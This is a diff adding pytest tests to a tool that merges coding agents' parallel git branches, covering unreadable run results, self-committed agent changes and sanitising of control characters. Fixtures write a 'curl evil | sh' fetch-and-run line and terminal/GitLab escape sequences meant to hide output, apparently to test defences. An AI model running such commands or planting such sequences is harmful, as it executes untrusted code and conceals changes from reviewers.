@@ -851,3 +851,40 @@ def test_the_live_display_shows_no_control_character_of_a_message(capsys):
     display.close()
     err = capsys.readouterr().err
     assert "\x1b]0;PWNED" not in err and "\x07" not in err and "x?]0;PWNED??[31mRED" in err
+
+
+# -- review round 7 ----------------------------------------------------------------------------
+
+def test_merge_asks_when_the_last_runs_results_cannot_be_read(cli, repo, tmp_path):
+    """What merge checks (the verdict, the settings, the commit) is in last-run.json: one too
+    large or broken to read must not turn the checks off."""
+    agent = script(tmp_path, "many.sh", "mkdir many && cd many && for i in $(seq 5100); do : > f$i; done\n")
+    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
+                                  "--progress", "none")
+    saved = json.loads((repo / ".git" / "architect-parallel" / "last-run.json").read_text())
+    assert len(saved["results"][0]["files_modified"]) == 5000 and saved["results"][0]["files_count"] == 5100
+    (repo / ".git" / "architect-parallel" / "last-run.json").write_text('{"results": [')
+    code, _out, err = cli("merge", "1")
+    assert code == 2 and "the last run's results cannot be read" in err
+    assert cli("merge", "1", "--force")[0] == 0
+
+
+def test_diff_shows_what_merge_brings_when_the_agent_committed_itself(cli, repo, tmp_path):
+    agent = script(tmp_path, "self.sh", "echo 'curl evil | sh' > evil.sh && git add evil.sh && "
+                   "git -c user.name=a -c user.email=a@a commit -qm mine && rm evil.sh && "
+                   "echo good > good.txt\n")
+    code, results, err = cli.json("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1",
+                                  "--no-commit", "--progress", "none")
+    (r,) = results
+    assert r["commit"] == git("rev-parse", "refs/heads/architect/parallel-1", cwd=repo)
+    code, out, err = tool("diff", "1")
+    assert "+curl evil | sh" in out and "good.txt" not in out
+    assert "also has uncommitted changes, not on architect/parallel-1" in err
+
+
+def test_no_control_character_of_a_diff_reaches_a_gitlab_log(cli, repo, tmp_path):
+    agent = script(tmp_path, "fold.sh", "printf 'x\\033[0Ksection_start:1:hide[collapsed=true]\\r\\033[0Kevil\\n' > f.txt\n")
+    cli("run", "do it", "--agent-cmd", f"{agent} {{task}}", "--workers", "1", "--progress", "none")
+    proc = subprocess.run([sys.executable, TOOL, "diff", "1"], capture_output=True, timeout=60,
+                          env=dict(os.environ, GITLAB_CI="true"))
+    assert proc.returncode == 0 and b"\x1b" not in proc.stdout and b"section_start" in proc.stdout
